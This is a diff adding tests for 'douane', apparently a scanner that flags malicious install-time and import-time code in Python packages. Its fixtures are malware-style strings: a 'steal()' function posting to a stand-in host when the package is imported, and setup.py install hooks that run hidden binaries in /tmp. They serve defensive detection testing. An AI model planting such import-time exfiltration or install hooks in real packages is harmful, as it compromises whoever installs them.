@@ -1,0 +1,63 @@
+"""Reachability and grading behind the install/import-time rules (DOU1xx)."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+from douane.analysis.engine import analyse
+from douane.archive import Opened
+from douane.domain import Artifact, ArtifactKind, Member, Severity, Where
+
+
+def scan(files: dict[str, str], kind: ArtifactKind = ArtifactKind.SDIST):
+    members = tuple(Member(p, t.encode(), len(t.encode())) for p, t in files.items())
+    opened = Opened(kind=kind, format="folder", members=members, issues=(), root="")
+    return analyse(Artifact(path=Path("."), filename="t"), opened).findings
+
+
+def hits(findings, rule):
+    return sorted((f.line, f.severity, f.where) for f in findings if f.rule == rule)
+
+
+def test_function_called_at_import_is_import_time():
+    """Regression: malware defines `steal()` and calls it at the bottom of `__init__.py`."""
+    src = (
+        "import requests\n"
+        "def steal():\n"
+        "    requests.post('https://c.example.invalid/x', data={})\n"
+        "def unused():\n"
+        "    requests.post('https://c.example.invalid/y', data={})\n"
+        "steal()\n"
+    )
+    assert hits(scan({"pkg/__init__.py": src}), "DOU103") == [(3, Severity.MEDIUM, Where.IMPORT)]
+
+
+def test_runtime_url_deep_in_a_helper_is_low():
+    src = "import urllib.request\ndef load(f):\n    return urllib.request.urlopen(f)\nCFG = load(PATH)\n"
+    assert hits(scan({"pkg/__init__.py": src}), "DOU103") == [(3, Severity.LOW, Where.IMPORT)]
+
+
+def test_setup_main_guard_runs_but_module_main_guard_does_not():
+    body = "import os\nif __name__ == '__main__':\n    os.system('/tmp/x')\n"
+    assert hits(scan({"setup.py": body + "setup()\n"}), "DOU102")
+    assert not hits(scan({"pkg/mod.py": body}), "DOU104")
+
+
+def test_cmdclass_override_is_graded_by_its_body():
+    src = (
+        "import subprocess\n"
+        "from setuptools.command.install import install\n"
+        "class Build(install):\n"
+        "    def run(self):\n"
+        "        subprocess.check_call(['make', 'all'])\n"
+        "        subprocess.check_call(['/tmp/.x'])\n"
+        "setup(cmdclass={'install': Build})\n"
+    )
+    found = [f for f in scan({"setup.py": src}) if f.rule == "DOU102"]
+    assert [f.line for f in found] == [6]
+    assert "`install` override `Build.run`" in found[0].message
+
+
+def test_wheel_setup_py_is_not_install_time():
+    src = "import os\nos.system('/tmp/x')\nsetup()\n"
+    assert not hits(scan({"setup.py": src}, ArtifactKind.WHEEL), "DOU102")
